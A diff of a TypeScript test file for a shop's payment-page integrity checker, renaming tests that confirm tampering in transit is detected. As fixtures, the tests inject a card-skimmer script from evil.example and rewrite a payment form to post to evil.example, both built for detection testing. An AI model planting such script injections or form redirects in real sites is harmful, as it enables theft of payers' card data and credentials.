@@ -66,7 +66,7 @@ const inFile =
       ? { ...passing, body: Buffer.concat([passing.body, Buffer.from('\n')]) }
       : passing;
 
-test('pages as this build sends them: nothing differs, with all that they load', async () => {
+test("this build's pages: no difference, including everything they load", async () => {
   const { differences, lookedAt } = await checkPages(shop.gateway);
   expect(differences).toEqual([]);
   // At least ten public pages, four payer pages, their style sheets and the icon.
@@ -75,7 +75,7 @@ test('pages as this build sends them: nothing differs, with all that they load',
 
 const evil = '<script src="https://evil.example/skim.js"></script>';
 
-describe('what somebody changes on the way is found', () => {
+describe('tampering in transit is found', () => {
   test.each<[string, Tamper, RegExp]>([
     ['a script', inHtml('</head>', `${evil}</head>`), /has <script src="https:\/\/evil/],
     ['an inline script', inHtml('</body>', '<script>x()</script></body>'), /has <script>, which is not ours/],
@@ -102,7 +102,7 @@ describe('what somebody changes on the way is found', () => {
     expect((await check()).join('\n')).toMatch(messages);
   });
 
-  test.skipIf(pageAssets().script === undefined)('the script of the pages, by one byte', async () => {
+  test.skipIf(pageAssets().script === undefined)("the pages' script, changed by one byte", async () => {
     proxy.set(inFile('.js'));
     const found = (await check()).join('\n');
     expect(found).toMatch(/\/assets\/pages-\w+\.js: contents are sha384-/);
@@ -110,7 +110,7 @@ describe('what somebody changes on the way is found', () => {
     expect(found).toMatch(/\/js\/v1\/recaudo\.js: contents are sha384-/);
   });
 
-  test('the form of one payment leads elsewhere', async () => {
+  test('the form of one payment posts elsewhere', async () => {
     proxy.set(inHtml(`action="${link}`, `action="https://evil.example${link}`, link));
     expect(await check()).toEqual([
       expect.stringMatching(/has <form[^>]*action="https:\/\/evil/),
@@ -127,7 +127,7 @@ describe('what somebody changes on the way is found', () => {
     expect(await check()).toEqual([expect.stringMatching(messages)]);
   });
 
-  test('a script for browsers alone: the check looks like one', async () => {
+  test('a script for browsers only: the check looks like one', async () => {
     const agents: string[] = [];
     shop.app.server.on('request', request => agents.push(request.headers['user-agent'] ?? ''));
     const { fetch } = globalThis;
@@ -140,14 +140,14 @@ describe('what somebody changes on the way is found', () => {
   });
 });
 
-test('an address that does not answer is told', async () => {
+test('reports an address without a response', async () => {
   shop.gateway.baseUrl = 'http://127.0.0.1:9';
   const found = await check();
   shop.gateway.baseUrl = proxy.url;
   expect(found[0]).toMatch(/^\/pagar\/ck0+: cannot be fetched: /);
 });
 
-test('a file that was changed on this machine too is found by an inventory that was kept elsewhere', async () => {
+test('finds a file changed on this machine with an inventory stored elsewhere', async () => {
   const kept = new Set(listInventory().map(({ integrity }) => integrity));
   expect((await checkPages(shop.gateway, kept)).differences).toEqual([]);
   kept.delete(pageAssets().styles.integrity);
@@ -156,7 +156,7 @@ test('a file that was changed on this machine too is found by an inventory that 
   ]);
 });
 
-test('the command fails, the log says what, and the doctor has a problem until it is mended', async () => {
+test('the command fails, the log says why, and the doctor reports it until it is fixed', async () => {
   const printed = vi.spyOn(console, 'log').mockImplementation(() => undefined);
   const logged = vi.spyOn(shop.gateway.log, 'error');
   const pages = async () =>
